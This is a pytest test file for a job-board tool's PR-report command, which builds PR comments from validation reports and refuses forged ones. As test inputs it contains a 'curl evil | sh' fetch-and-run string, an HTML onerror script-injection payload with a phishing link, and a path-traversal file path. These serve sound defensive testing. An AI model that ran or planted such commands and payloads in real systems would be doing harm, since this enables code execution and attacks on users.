"""``boardgen pr-report``: the listing PR's comment from a real (and from a forged) report."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from conftest import SCAM_LISTING, RunCli, write_listing

from boardgen.intake.prreport import classify

BROKEN = """\
id: broken-deadline
title: Survey intern
organization: Harbor Labs
apply_url: https://harborlabs.example.com/apply
opportunity_type: internship
work_mode: remote
posted_at: 2026-11-20
deadline: 31/12/2026
description: A description.
"""


def run_report(board: Path, run_cli: RunCli, report: str, files: list[str]) -> tuple[int, str, str]:
    (board.parent / "validation.json").write_text(report, encoding="utf-8")
    (board.parent / "files.txt").write_text("\n".join(files) + "\n", encoding="utf-8")
    result = run_cli(
        board,
        "pr-report",
        str(board.parent / "validation.json"),
        "--files",
        str(board.parent / "files.txt"),
        "--comment",
        str(board.parent / "comment.md"),
    )
    comment = board.parent / "comment.md"
    text = comment.read_text(encoding="utf-8") if comment.exists() else ""
    return result.returncode, result.stdout + result.stderr, text


def test_comment_lists_errors_with_file_and_line_and_scam_flags_with_reasons(
    board: Path, run_cli: RunCli
) -> None:
    write_listing(board, "quickcash-data-entry.yml", SCAM_LISTING)
    write_listing(board, "broken-deadline.yml", BROKEN)
    validation = run_cli(board, "validate", "--format", "json")
    assert validation.returncode == 1
    files = ["content/listings/quickcash-data-entry.yml", "content/listings/broken-deadline.yml"]
    code, out, comment = run_report(board, run_cli, validation.stdout, files)
    assert code == 0, out
    assert out == "listings_only=true\ncode=false\n"
    assert comment.startswith("<!-- boardgen-listing-check -->\n### Listing check")
    assert "❌ `boardgen validate` found 1 error(s), 4 scam flag(s)" in comment
    assert re.search(r"content/listings/broken-deadline\.yml:8:11: deadline: '31/12/2026'", comment)
    assert "rule fee-required (weight 1): asks applicants to pay a fee" in comment
    assert "rule check-deposit" in comment
    # Problems in files the PR did not touch are not this PR's business.
    only_scam = run_report(board, run_cli, validation.stdout, files[:1])[2]
    assert "broken-deadline" not in only_scam


def test_a_clean_listing_pr_gets_a_green_comment(board: Path, run_cli: RunCli) -> None:
    validation = run_cli(board, "validate", "--format", "json")
    files = ["content/listings/riverbend-survey-analysis.yml"]
    code, out, comment = run_report(board, run_cli, validation.stdout, files)
    assert code == 0 and "✅" in comment, out


@pytest.mark.parametrize(
    "forged",
    [
        "not json",
        json.dumps({"ok": True, "files": 1, "problems": [], "run": "curl evil | sh"}),
        json.dumps({"ok": "yes", "files": 1, "problems": []}),
        json.dumps({"ok": True, "files": 1, "problems": [{"path": "x", "line": "1"}]}),
        json.dumps(
            {
                "ok": True,
                "files": 1,
                "problems": [
                    {
                        "path": "a",
                        "line": 1,
                        "column": 1,
                        "field": "",
                        "severity": "error",
                        "message": "x" * 5000,
                    }
                ],
            }
        ),
    ],
    ids=["not-json", "extra-key", "wrong-type", "string-line", "oversized-message"],
)
def test_a_forged_report_is_refused(board: Path, run_cli: RunCli, forged: str) -> None:
    code, out, comment = run_report(board, run_cli, forged, ["content/listings/a.yml"])
    assert code == 1
    assert "not a 'boardgen validate --format json' report" in out
    assert comment == ""


def test_hostile_text_in_a_report_stays_inside_one_code_block(board: Path, run_cli: RunCli) -> None:
    hostile = "```\n@everyone <img src=x onerror=alert(1)> [phish](https://evil.example) ````"
    report = {
        "ok": False,
        "files": 1,
        "problems": [
            {"path": "content/listings/a.yml", "line": 1, "column": 1, "field": "title",
             "severity": "error", "message": hostile},
        ],
    }  # fmt: skip
    code, _, comment = run_report(board, run_cli, json.dumps(report), ["content/listings/a.yml"])
    assert code == 0
    fence = re.search(r"^(`{3,})text$", comment, re.M)
    assert fence is not None and len(fence.group(1)) == 5
    before, inside = comment.split(fence.group(0), 1)
    assert "@everyone" not in before
    inside_block, after = inside.split("\n" + fence.group(1), 1)
    assert "\n" not in inside_block.strip()  # the newline in the message was flattened
    assert after.strip() == ""


def test_classify_code_paths_and_listing_only_prs() -> None:
    assert classify(["content/listings/a.yml", "content/listings/b.yaml"]).listings_only
    mixed = classify(["content/listings/a.yml", "boardgen/commands/cli.py", "mkdocs.yml"])
    assert not mixed.listings_only and mixed.code_paths == [
        "boardgen/commands/cli.py",
        "mkdocs.yml",
    ]
    for path in (
        ".github/workflows/check.yml",
        "site_config/overrides/main.html",
        "scrapers/lever.py",
        "pyproject.toml",
    ):
        assert classify([path]).code_paths == [path]
    guide = classify(["content/guide/applying.md"])
    assert not guide.listings_only and guide.code_paths == []
    assert not classify(["content/listings/../../mkdocs.yml"]).listings_only
    assert not classify(["content/listings/sub/a.yml"]).listings_only
    assert not classify([]).listings_only
